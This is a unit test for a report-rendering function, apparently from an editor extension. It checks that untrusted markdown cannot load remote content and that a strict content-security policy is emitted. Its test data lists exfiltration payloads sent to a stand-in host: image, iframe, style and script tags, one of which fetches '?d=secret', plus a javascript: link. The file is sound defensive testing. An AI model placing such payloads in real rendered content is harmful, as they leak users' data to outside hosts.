import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderReportHtml } from '../../../../src/host/inspection/reportHtml';

const SOURCE = 'https://file+.vscode-resource.vscode-cdn.net';

describe('inspection report page', () => {
	const leaks = [
		'![leak](https://evil.example/p.png?d=secret)',
		'![leak][ref]\n\n[ref]: https://evil.example/r.png?d=secret',
		'<img src="https://evil.example/i.png?d=secret">',
		'<iframe src="https://evil.example/f"></iframe>',
		'<link rel="stylesheet" href="https://evil.example/s.css">',
		'<style>body{background:url(https://evil.example/bg?d=secret)}</style>',
		'<script>fetch("https://evil.example/?d=secret")</script>',
		'[click](javascript:alert(1))',
	];

	it('loads nothing remote: no images, no raw HTML, and a CSP that forbids it anyway', () => {
		const html = renderReportHtml(
			`# Report\n\n${leaks.join('\n\n')}\n\n| a | b |\n| - | - |\n| x | y |`,
			SOURCE,
			`${SOURCE}/media/report.css`,
		);
		const body = html.slice(html.indexOf('<body>'));
		assert.ok(!/<(img|iframe|script|link|style|object|embed)\b/i.test(body), body);
		assert.ok(!/\s(src|srcset)="/i.test(body), body);
		assert.ok(!/href="javascript:/i.test(body), body);
		// The only thing the page loads is the extension's own stylesheet.
		assert.deepEqual(html.match(/<link [^>]*>/g), [
			`<link rel="stylesheet" href="${SOURCE}/media/report.css">`,
		]);
		assert.match(
			html,
			new RegExp(
				`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src ${SOURCE.replace(/[.+]/g, '\\$&')}">`,
			),
		);
		// The words are all still there, shown as text.
		assert.match(html, /&lt;img src=&quot;<a href="https:\/\/evil\.example\/i\.png\?d=secret">/);
		assert.match(html, /<h1>Report<\/h1>/);
		assert.match(html, /<table>/);
	});
});
